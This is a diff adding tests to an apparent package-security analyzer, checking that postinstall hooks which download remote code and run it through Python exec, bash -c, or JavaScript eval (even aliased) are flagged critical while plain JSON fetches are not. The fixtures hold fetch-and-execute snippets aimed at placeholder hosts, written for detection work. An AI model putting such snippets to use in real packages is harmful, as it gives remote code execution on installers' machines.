@@ -1114,3 +1114,55 @@ tar czf dist.tgz dist && curl -s -T dist.tgz https://artifacts.example/upload`,
     ).toEqual([]);
   });
 });
+
+describe('downloaded code run in one breath', () => {
+  const py = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'python3 s.py' } }), 's.py': code });
+  it('Python: exec of urlopen, a shell command from requests, and the fetched text through two names', () => {
+    expect(
+      py(`import urllib.request\nexec(urllib.request.urlopen('https://x.example/p.py').read())`).risk_level,
+    ).toBe('critical');
+    expect(
+      py(
+        `import subprocess, requests\nsubprocess.run(['bash', '-c', requests.get('https://x.example/p.sh').text])`,
+      ).risk_level,
+    ).toBe('critical');
+    expect(
+      py(
+        `import urllib.request\nsrc = urllib.request.urlopen("https://x.example/p.py").read()\ncode = src.decode("utf-8")\nexec(code)`,
+      ).risk_level,
+    ).toBe('critical');
+  });
+  it('JavaScript: eval handed to then(), directly or through a table', () => {
+    expect(
+      risk({
+        'package.json': pkg({
+          scripts: { postinstall: `node -e "fetch('https://x.example/p').then(r=>r.text()).then(eval)"` },
+        }),
+      }),
+    ).toBe('critical');
+    expect(
+      risk({
+        'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+        'index.js': `const run = [eval][0];\nconst get = (u) => fetch(u).then((r) => r.text());\nget('https://x.example/p').then(run);`,
+      }),
+    ).toBe('critical');
+  });
+  it('fetched JSON parsed and a version printed stay quiet', () => {
+    expect(
+      threatsOf(
+        py(
+          `import json, urllib.request\ndata = json.loads(urllib.request.urlopen('https://api.example/v').read())\nprint(data['version'])`,
+        ),
+      ),
+    ).toEqual([]);
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `module.exports = () => fetch('https://api.example/v').then((r) => r.json()).then(console.log);`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
